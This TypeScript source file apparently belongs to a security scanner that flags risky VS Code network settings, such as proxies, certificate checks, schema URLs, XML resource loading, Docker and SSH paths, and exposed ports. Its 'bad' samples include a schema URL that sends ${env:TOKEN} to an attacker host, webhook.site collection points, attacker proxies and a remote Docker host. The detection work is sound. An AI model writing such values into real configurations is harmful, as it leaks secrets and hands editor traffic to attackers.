import { parseUrl } from './hosts.ts';
import type { RowContext, RowMatch, SettingValue } from './setting-row.ts';
import { hostileUrl, isPlaceholder, isRepoRelative, isWebUrl, plainHttpReach, urlReach } from './values.ts';
import { live, scoped, textOf, VSC } from './vscode-row.ts';
import type { VscodeRow } from './vscode-row.ts';

const NETWORK = 'https://code.visualstudio.com/docs/setup/network';
const SCHEMAS = 'https://code.visualstudio.com/docs/languages/json#_json-schemas-and-settings';

function proxy(value: SettingValue): boolean {
  const reach = urlReach(textOf(value).includes('://') ? textOf(value) : `http://${textOf(value)}`);
  return textOf(value) !== '' && (reach === 'outside' || reach === 'private');
}

/** Hosts that publish schemas, or from which repositories usually load them. */
const SCHEMA_HOSTS = /^(?:(?:json|www)\.schemastore\.org|json-schema\.org|unpkg\.com|cdn\.jsdelivr\.net|esm\.sh|developer\.microsoft\.com|[\w.-]{1,100}\.githubusercontent\.com|github\.com|[\w.-]{1,100}\.github\.io|gitlab\.com|schemas\.microsoft\.com|aka\.ms|go\.microsoft\.com)$/i;

/**
 * How suspicious a schema's URL is: `recommended` for collection points, addresses, templates and query strings that can
 * carry data, and for plain http; `strict` for hosts that are not known for schemas.
 */
export function schemaUrl(text: string): RowMatch | false {
  const url = parseUrl(text);
  if (!url || !isWebUrl(text)) return false;
  const hostile = hostileUrl(text);
  if (hostile) return { preset: 'recommended', data: { what: `schema from a ${hostile}` } };
  if (/\$\{|\{\{/.test(text) || (/[=]/.test(url.query) && !url.query.startsWith('#') && !isVersion(url.query))) return { preset: 'recommended', data: { what: 'schema URL with values in it' } };
  if (plainHttpReach(text) === 'outside' && !/^(?:json-schema\.org|json\.schemastore\.org|schemas\.\S{1,100}|www\.w3\.org|maven\.apache\.org|www\.springframework\.org)$/i.test(url.host)) return { preset: 'recommended', data: { what: 'schema over plain http' } };
  return urlReach(text) === 'outside' && !SCHEMA_HOSTS.test(url.host) && { preset: 'strict', data: { what: 'schema from another host' } };
}

/** `?v=1.2`, `?version=3`, `?ref=main`, `?raw=true`: selects a version, carries nothing. */
function isVersion(query: string): boolean {
  return /^\?(?:v|version|ref|raw|branch|at|download|path|api-version|inline)=[\w.,/:-]{0,60}(?:&(?:v|version|ref|raw|branch|at|inline)=[\w.,/:-]{0,60}){0,3}(?:#.{0,200})?$/i.test(query);
}

function schemaSetting(value: SettingValue, context: RowContext): boolean | RowMatch {
  const texts = value.kind === 'string' ? [textOf(value)] : [String(value.key)];
  const text = texts.find(isWebUrl);
  return text !== undefined && !context.isAllowed('allowedHosts', text) && schemaUrl(text);
}

/** The members' names of `yaml.schemas` and the like are URLs. */
function schemaKey(value: SettingValue, context: RowContext): boolean | RowMatch {
  const text = String(value.key).replace(/^(?:yaml\.schemas|evenBetterToml\.schema\.(?:associations|catalogs))\./, '');
  return isWebUrl(text) && !context.isAllowed('allowedHosts', text) && schemaUrl(text);
}

/** A program outside of the usual names; `recommended` in any case, worse when it lies in the repository. */
function clientProgram(value: SettingValue): boolean {
  const text = textOf(value);
  return text !== '' && !/^(?:(?:\/usr\/(?:local\/)?bin\/|\/opt\/homebrew\/bin\/)?(?:podman|docker|nerdctl|docker-compose|podman-compose|ssh|docker compose)|C:\\Windows\\System32\\OpenSSH\\ssh\.exe)(?:\.exe)?$/i.test(text) && !/^\$\{(?:env|localEnv):\w{1,60}\}$/.test(text);
}

/** Network settings (A4). */
export const VSCODE_NETWORK: readonly VscodeRow[] = [
  {
    id: 'A4-1',
    key: 'http.proxy',
    when: proxy,
    report: 'traffic',
    preset: 'recommended',
    cwe: [441],
    source: NETWORK,
    allow: 'allowedHosts',
    data: scoped('machine', { what: 'all traffic of the editor and its agents' }),
    bad: ['http://proxy.attacker.example:8080', 'proxy.attacker.example:3128'],
    good: ['', 'http://127.0.0.1:8080', 'http://localhost:3128', '${env:HTTP_PROXY}'],
  },
  {
    id: 'A4-2',
    key: 'http.proxyStrictSSL',
    is: false,
    report: 'protectionOff',
    preset: 'recommended',
    cwe: [295],
    source: NETWORK,
    data: scoped('machine', { effect: 'accepts any certificate for the traffic of the editor' }),
    bad: [false],
    good: [true],
  },
  {
    id: 'A4-3',
    key: 'http.systemCertificates',
    is: false,
    report: 'protectionOff',
    preset: 'strict',
    cwe: [295],
    source: NETWORK,
    data: scoped('machine', { effect: 'leaves the certificates of the system out' }),
    bad: [false],
    good: [true],
  },
  {
    id: 'A4-4',
    key: 'http.proxyAuthorization',
    when: (value) => textOf(value) !== '' && { preset: isPlaceholder(textOf(value)) ? 'strict' : 'recommended', data: { value: 'a header' } },
    report: 'protectionOff',
    preset: 'recommended',
    cwe: [798],
    source: NETWORK,
    data: scoped('machine', { effect: 'sends a credential to the proxy with every request' }),
    bad: [`Basic ${'dXNlcjpw' + 'YXNz'}`],
    good: [null, ''],
  },
  {
    id: 'A4-5',
    key: 'json.schemas[].url',
    when: schemaSetting,
    report: 'schemaUrl',
    preset: 'recommended',
    cwe: [200, 918],
    source: SCHEMAS,
    bad: ['https://webhook.site/abc', 'https://schemas.attacker.example/s.json?data=${env:TOKEN}', 'https://x.attacker.example/s?d=abc', 'http://45.61.3.2/schema.json', 'http://schema.attacker.dev/s.json', 'https://schema.attacker.dev/s.json'],
    good: ['./schema.json', 'https://json.schemastore.org/tsconfig', 'https://raw.githubusercontent.com/x/y/main/s.json', 'http://json-schema.org/draft-07/schema#', 'https://unpkg.com/x@1/schema.json'],
  },
  {
    id: 'A4-6',
    key: ['json.schemaDownload.trustedDomains[]', 'json.schemaDownload.trustedDomains.*'],
    when: (value) => {
      const text = value.kind === 'string' ? textOf(value) : value.value === true ? String(value.key).replace(/^json\.schemaDownload\.trustedDomains\./, '') : '';
      return /^(?:\*|https?:\/\/\*?\/?\*?)$/.test(text) || hostileUrl(text.includes('://') ? text : `https://${text}`) !== null;
    },
    report: 'protectionOff',
    preset: 'recommended',
    cwe: [693],
    source: VSC,
    data: live({ effect: 'lets schemas be loaded from anywhere' }),
    bad: [{ document: { 'json.schemaDownload.trustedDomains': { '*': true } } }, { document: { 'json.schemaDownload.trustedDomains': { 'https://webhook.site': true } } }, { document: { 'json.schemaDownload.trustedDomains': ['*'] } }],
    good: [{ document: { 'json.schemaDownload.trustedDomains': { 'https://www.schemastore.org': true, '*': false } } }],
  },
  {
    id: 'A4-8',
    key: ['yaml.schemas.*', 'evenBetterToml.schema.{associations,catalogs}.*'],
    when: schemaKey,
    report: 'schemaUrl',
    preset: 'recommended',
    cwe: [200],
    source: 'https://github.com/redhat-developer/vscode-yaml',
    bad: [{ document: { 'yaml.schemas': { 'https://webhook.site/abc': '*.yaml' } } }, { document: { 'yaml.schemas': { 'http://schema.attacker.dev/s': ['a.yaml'] } } }],
    good: [{ document: { 'yaml.schemas': { 'https://json.schemastore.org/github-workflow.json': '.github/workflows/*', './schema.json': 'a.yaml', kubernetes: '*.k8s.yaml' } } }],
  },
  {
    id: 'A4-8',
    key: ['xml.fileAssociations[].systemId', 'xml.catalogs[]', 'evenBetterToml.schema.catalogs[]', 'evenBetterToml.schema.associations.*'],
    when: schemaSetting,
    report: 'schemaUrl',
    preset: 'recommended',
    cwe: [200, 611],
    source: 'https://github.com/redhat-developer/vscode-xml',
    bad: ['https://webhook.site/abc'],
    good: ['./a.xsd', 'https://www.schemastore.org/a.xsd'],
  },
  {
    id: 'A4-8',
    key: 'xml.downloadExternalResources.enabled',
    is: true,
    report: 'protectionOff',
    preset: 'recommended',
    cwe: [611],
    source: 'https://github.com/redhat-developer/vscode-xml',
    data: live({ effect: 'loads whatever an XML file names' }),
    bad: [true],
    good: [false],
  },
  {
    id: 'A4-9',
    key: ['remote.SSH.{configFile,path}', 'dev.containers.{dockerPath,dockerComposePath}', 'docker.{dockerPath,composeCommand}', 'remote.containers.{dockerPath,dockerComposePath}'],
    when: (value) => clientProgram(value) && { preset: isRepoRelative(textOf(value)) ? 'recommended' : 'strict' },
    report: 'program',
    preset: 'recommended',
    cwe: [426],
    source: 'https://code.visualstudio.com/docs/remote/ssh',
    data: scoped('machine'),
    bad: ['./tools2/docker', '${workspaceFolder}/.vscode/ssh', '/opt/other/ssh'],
    good: ['podman', 'docker', '/usr/bin/podman', '', null],
  },
  {
    id: 'A4-9',
    key: 'docker.environment.DOCKER_HOST',
    when: (value) => textOf(value) !== '' && urlReach(textOf(value).replace(/^tcp:/, 'http:')) !== 'loopback' && !/^(?:unix|npipe):/.test(textOf(value)),
    report: 'traffic',
    preset: 'recommended',
    cwe: [426],
    source: 'https://code.visualstudio.com/docs/containers/ssh',
    allow: 'allowedHosts',
    data: scoped('machine', { what: 'container commands' }),
    bad: ['tcp://docker.attacker.example:2375'],
    good: ['', { document: { 'docker.environment': { DOCKER_HOST: 'unix:///run/user/1000/podman/podman.sock' } } }, { document: { 'docker.environment': { DOCKER_HOST: 'tcp://127.0.0.1:2375' } } }],
  },
  {
    id: 'A4-10',
    key: 'remote.localPortHost',
    is: 'allInterfaces',
    report: 'exposed',
    preset: 'recommended',
    cwe: [668],
    source: VSC,
    data: { what: 'forwarded ports' },
    bad: ['allInterfaces'],
    good: ['localhost'],
  },
  {
    id: 'A4-11',
    key: ['liveServer.settings.host', 'livePreview.hostIP', 'live-server.host'],
    is: '0.0.0.0',
    report: 'exposed',
    preset: 'strict',
    cwe: [668],
    source: 'https://github.com/ritwickdey/vscode-live-server',
    data: { what: 'the preview server' },
    bad: ['0.0.0.0'],
    good: ['127.0.0.1', 'localhost'],
  },
];

/** `$schema` of any JSON file (A4-7): only what no schema needs. */
export const JSON_SCHEMA: readonly VscodeRow[] = [
  {
    id: 'A4-7',
    key: '$schema',
    when: (value, context) => {
      const text = textOf(value);
      const query = parseUrl(text)?.query ?? '';
      const hostile = hostileUrl(text);
      if (context.isAllowed('allowedHosts', text)) return false;
      if (hostile) return { data: { what: `schema from a ${hostile}` } };
      return isWebUrl(text) && query.startsWith('?') && query.length > 40 && { data: { what: 'schema URL with values in it' } };
    },
    report: 'schemaUrl',
    preset: 'recommended',
    cwe: [200],
    source: 'CVE-2025-49150 (Cursor)',
    bad: ['https://webhook.site/abc', 'http://45.61.3.2/s.json', `https://schemas.attacker.example/s.json?data=${'a'.repeat(50)}`],
    good: ['https://json.schemastore.org/package.json', './schema.json', 'http://json-schema.org/draft-07/schema#', 'https://example.com/s.json?v=1', 'https://schemas.example.dev/s.json'],
  },
];
